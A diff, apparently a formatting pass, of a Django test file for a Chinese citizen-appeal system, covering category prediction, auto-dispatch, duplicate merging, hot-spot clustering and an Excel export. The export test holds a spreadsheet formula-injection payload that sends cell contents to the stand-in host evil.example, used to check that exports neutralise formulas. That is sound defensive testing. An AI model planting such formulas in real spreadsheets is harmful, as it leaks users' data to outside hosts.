@@ -40,8 +40,9 @@ def submit(make_appeal, capture, actor=None, title=LEAK[0], content=LEAK[1], **k
     return appeal
 
 
-def test_new_appeal_gets_top3_and_the_suggested_unit_on_commit(insight_on, make_appeal, dispatch_rule,
-                                                              django_capture_on_commit_callbacks):
+def test_new_appeal_gets_top3_and_the_suggested_unit_on_commit(
+    insight_on, make_appeal, dispatch_rule, django_capture_on_commit_callbacks
+):
     appeal = submit(make_appeal, django_capture_on_commit_callbacks, category=None)
     p = AppealPrediction.objects.get(appeal=appeal)
     assert p.top3[0]["name"] == "城乡建设"
@@ -60,15 +61,18 @@ def test_nothing_runs_before_commit(insight_on, make_appeal, django_capture_on_c
     assert callbacks and not AppealPrediction.objects.filter(appeal=appeal).exists()
 
 
-def test_a_broken_task_backend_never_breaks_submission(settings, make_appeal, django_capture_on_commit_callbacks):
+def test_a_broken_task_backend_never_breaks_submission(
+    settings, make_appeal, django_capture_on_commit_callbacks
+):
     settings.TASKS = {"default": {"BACKEND": "no.such.Backend"}}
     appeal = submit(make_appeal, django_capture_on_commit_callbacks)
     assert Appeal.objects.filter(pk=appeal.pk, state=AppealState.RECEIVED).exists()
     assert not AppealPrediction.objects.filter(appeal=appeal).exists()
 
 
-def test_auto_dispatch_above_the_configured_confidence(insight_on, make_appeal, dispatch_rule, units,
-                                                       django_capture_on_commit_callbacks):
+def test_auto_dispatch_above_the_configured_confidence(
+    insight_on, make_appeal, dispatch_rule, units, django_capture_on_commit_callbacks
+):
     insight_on.GONGZHI = {**insight_on.GONGZHI, "AUTO_DISPATCH_CONFIDENCE": 0.0}
     make_user("system-dispatcher", Role.DISPATCHER, unit=units["hotline"], is_staff=True)
     appeal = submit(make_appeal, django_capture_on_commit_callbacks, category=None)
@@ -79,24 +83,28 @@ def test_auto_dispatch_above_the_configured_confidence(insight_on, make_appeal, 
     assert AppealPrediction.objects.get(appeal=appeal).auto_dispatched
 
 
-def test_auto_dispatch_needs_the_system_dispatcher(insight_on, make_appeal, dispatch_rule,
-                                                   django_capture_on_commit_callbacks):
+def test_auto_dispatch_needs_the_system_dispatcher(
+    insight_on, make_appeal, dispatch_rule, django_capture_on_commit_callbacks
+):
     insight_on.GONGZHI = {**insight_on.GONGZHI, "AUTO_DISPATCH_CONFIDENCE": 0.0}
     appeal = submit(make_appeal, django_capture_on_commit_callbacks, category=None)
     appeal.refresh_from_db()
     assert appeal.state == AppealState.RECEIVED
 
 
-def test_dispatcher_sees_the_prediction_and_the_form_preselects_it(insight_on, make_appeal, dispatch_rule,
-                                                                   users, django_capture_on_commit_callbacks):
+def test_dispatcher_sees_the_prediction_and_the_form_preselects_it(
+    insight_on, make_appeal, dispatch_rule, users, django_capture_on_commit_callbacks
+):
     appeal = submit(make_appeal, django_capture_on_commit_callbacks, category=None)
     html = login(users["dispatcher"]).get(f"/appeals/{appeal.pk}/").content.decode()
     assert 'id="prediction"' in html and "城乡建设" in html and "县住建局" in html
     assert f'<option value="{dispatch_rule.unit_id}" selected>' in html
     assert f'<option value="{dispatch_rule.category_id}" selected>' in html
     # one click confirms: post the form as preselected
-    response = login(users["dispatcher"]).post(f"/appeals/{appeal.pk}/act/dispatch/", {
-        "dispatch-lead_unit": dispatch_rule.unit_id, "dispatch-category": dispatch_rule.category_id})
+    response = login(users["dispatcher"]).post(
+        f"/appeals/{appeal.pk}/act/dispatch/",
+        {"dispatch-lead_unit": dispatch_rule.unit_id, "dispatch-category": dispatch_rule.category_id},
+    )
     assert response.status_code == 302
     appeal.refresh_from_db()
     assert appeal.state == AppealState.DISPATCHED and appeal.category_id == dispatch_rule.category_id
@@ -104,8 +112,9 @@ def test_dispatcher_sees_the_prediction_and_the_form_preselects_it(insight_on, m
     assert 'id="prediction"' not in login(users["resident"]).get(f"/appeals/{appeal.pk}/").content.decode()
 
 
-def test_duplicates_on_the_success_page_and_one_click_merge(insight_on, make_appeal, users,
-                                                            django_capture_on_commit_callbacks):
+def test_duplicates_on_the_success_page_and_one_click_merge(
+    insight_on, make_appeal, users, django_capture_on_commit_callbacks
+):
     first = submit(make_appeal, django_capture_on_commit_callbacks, actor=users["resident2"])
     c = login(users["resident"])
     second = submit(make_appeal, django_capture_on_commit_callbacks)
@@ -123,10 +132,16 @@ def test_duplicates_on_the_success_page_and_one_click_merge(insight_on, make_app
     assert second.state == AppealState.MERGED and second.master_id == first.pk
 
 
-def test_unrelated_appeal_has_no_duplicates(insight_on, make_appeal, users, django_capture_on_commit_callbacks):
+def test_unrelated_appeal_has_no_duplicates(
+    insight_on, make_appeal, users, django_capture_on_commit_callbacks
+):
     submit(make_appeal, django_capture_on_commit_callbacks)
-    other = submit(make_appeal, django_capture_on_commit_callbacks, title="孩子入学咨询",
-                   content="请问外地户籍孩子在本区上小学需要准备哪些材料，什么时候报名？")
+    other = submit(
+        make_appeal,
+        django_capture_on_commit_callbacks,
+        title="孩子入学咨询",
+        content="请问外地户籍孩子在本区上小学需要准备哪些材料，什么时候报名？",
+    )
     html = login(users["dispatcher"]).get(f"/appeals/{other.pk}/").content.decode()
     assert 'id="similar"' not in html
 
@@ -147,7 +162,9 @@ def test_hot_spot_opens_joins_and_merges(insight_on, make_appeal, users, django_
     assert HotSpot.objects.count() == 1 and HotSpotMember.objects.count() == 3
 
 
-def test_hotspot_page_roles_and_export(list_small_hotspots, insight_on, make_appeal, users, django_capture_on_commit_callbacks):
+def test_hotspot_page_roles_and_export(
+    list_small_hotspots, insight_on, make_appeal, users, django_capture_on_commit_callbacks
+):
     from openpyxl import load_workbook
 
     a = submit(make_appeal, django_capture_on_commit_callbacks)
@@ -171,12 +188,18 @@ def test_hotspot_page_roles_and_export(list_small_hotspots, insight_on, make_app
     formula = '=HYPERLINK("http://evil.example/?"&A2,"点此查看")'
     Appeal.objects.filter(pk=a.pk).update(title=formula, content="=1+1")
     wb = load_workbook(io.BytesIO(login(users["leader"]).get("/insight/hotspots/export.xlsx").content))
-    cells = [c for row in wb["热点问题留言明细表"].iter_rows(min_row=2) for c in row if c.value in (formula, "=1+1")]
+    cells = [
+        c
+        for row in wb["热点问题留言明细表"].iter_rows(min_row=2)
+        for c in row
+        if c.value in (formula, "=1+1")
+    ]
     assert len(cells) == 2 and all(c.data_type == "s" for c in cells)
 
 
-def test_an_appeal_linking_two_hot_spots_merges_them(insight_on, make_appeal, users,
-                                                     django_capture_on_commit_callbacks):
+def test_an_appeal_linking_two_hot_spots_merges_them(
+    insight_on, make_appeal, users, django_capture_on_commit_callbacks
+):
     a = submit(make_appeal, django_capture_on_commit_callbacks)
     b = submit(make_appeal, django_capture_on_commit_callbacks, actor=users["resident2"])
     spot = HotSpot.objects.get()
@@ -194,17 +217,18 @@ def test_hot_spots_stay_within_a_street(insight_on, make_appeal, county, django_
     assert not HotSpot.objects.exists()
 
 
-def test_the_warm_index_adds_only_new_appeals_and_rebuilds_when_stale(insight_on, make_appeal, users,
-                                                                       django_capture_on_commit_callbacks):
+def test_the_warm_index_adds_only_new_appeals_and_rebuilds_when_stale(
+    insight_on, make_appeal, users, django_capture_on_commit_callbacks
+):
     a = submit(make_appeal, django_capture_on_commit_callbacks)
-    (index, known), = live._INDEXES.values()
+    ((index, known),) = live._INDEXES.values()
     assert set(known) == {a.pk}
     b = submit(make_appeal, django_capture_on_commit_callbacks, actor=users["resident2"])
-    (index2, known2), = live._INDEXES.values()
+    ((index2, known2),) = live._INDEXES.values()
     assert index2 is index and set(known2) == {a.pk, b.pk}
     known2[a.pk] = known2[a.pk] - timedelta(days=1)  # an id that now names another appeal: rebuild
     live.update_hotspots(b.pk)
-    (index3, _known3), = live._INDEXES.values()
+    ((index3, _known3),) = live._INDEXES.values()
     assert index3 is not index and HotSpot.objects.get().size == 2
 
 
